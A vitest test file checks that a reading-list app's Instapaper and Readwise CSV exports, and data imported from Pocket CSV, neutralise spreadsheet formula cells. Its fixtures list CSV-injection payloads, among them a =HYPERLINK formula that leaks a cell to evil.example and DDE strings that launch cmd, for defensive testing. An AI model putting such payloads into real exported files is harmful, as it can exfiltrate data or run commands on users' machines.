import { describe, expect, it } from 'vitest';
import { neutraliseCell, parseCsv } from '../../lib/reading-list/csv';
import { exportInstapaperCsv } from '../../lib/reading-list/format-instapaper-csv';
import { exportReadwiseCsv } from '../../lib/reading-list/format-readwise-csv';
import { importFile } from '../../lib/reading-list/import-file';
import { entry } from './helpers';

// F4: a cell a spreadsheet would evaluate (=, +, -, @, TAB, CR first) is written as text, in every
// CSV MailGist writes, whatever the value came from (an email, another tool's file).

const parseHtml = (html: string) => new DOMParser().parseFromString(html, 'text/html');
const ctx = () => ({ parseHtml, newId: () => crypto.randomUUID(), now: new Date('2026-04-01') });

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\uFF1D1+1', // full-width equals sign
];

/** What a spreadsheet would evaluate: the first non-blank character starts a formula. */
const live = (cell: string) => /^[\t\r]|^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);

describe('CSV exports neutralise formula cells (F4)', () => {
  const hostile = HOSTILE.map((text, i) =>
    entry(i + 1, {
      title: text,
      excerpt: text,
      authors: [text],
      publication: text,
      lists: [text],
      tags: [text],
      quotes: [{ text, speaker: text }],
    }),
  );

  it.each([
    ['Instapaper', exportInstapaperCsv],
    ['Readwise', exportReadwiseCsv],
  ] as const)('%s: no cell starts a formula', (_name, exporter) => {
    const rows = parseCsv(exporter(hostile));
    expect(rows.length).toBeGreaterThan(HOSTILE.length);
    for (const cell of rows.flat()) expect(live(cell), JSON.stringify(cell)).toBe(false);
    // The text is all there, behind the apostrophe a spreadsheet hides.
    expect(rows.flat()).toContain(`'${HOSTILE[0]}`);
  });

  it('a formula imported from a Pocket CSV is neutralised on the way out', () => {
    const pocket =
      'title,url,time_added,cursor,tags,status\n' +
      '"=HYPERLINK(""https://evil.example"",""Open"")",https://example.com/a,1700000000,c1,@x|-y,unread\n';
    const { entries } = importFile(pocket, ctx());
    expect(entries[0]!.title).toBe('=HYPERLINK("https://evil.example","Open")');
    const cells = parseCsv(exportInstapaperCsv(entries)).flat();
    expect(cells.some(live)).toBe(false);
    expect(cells).toContain(`'=HYPERLINK("https://evil.example","Open")`);
  });

  it('export then import gives back the same text; plain numbers stay numbers', () => {
    const back = importFile(exportInstapaperCsv(hostile), ctx()).entries;
    expect(back.map((e) => e.title)).toEqual(HOSTILE.map((t) => t.trim() || t));
    expect(neutraliseCell('-3')).toBe('-3');
    expect(neutraliseCell('1.5')).toBe('1.5');
    expect(neutraliseCell('A -1 day')).toBe('A -1 day');
  });
});
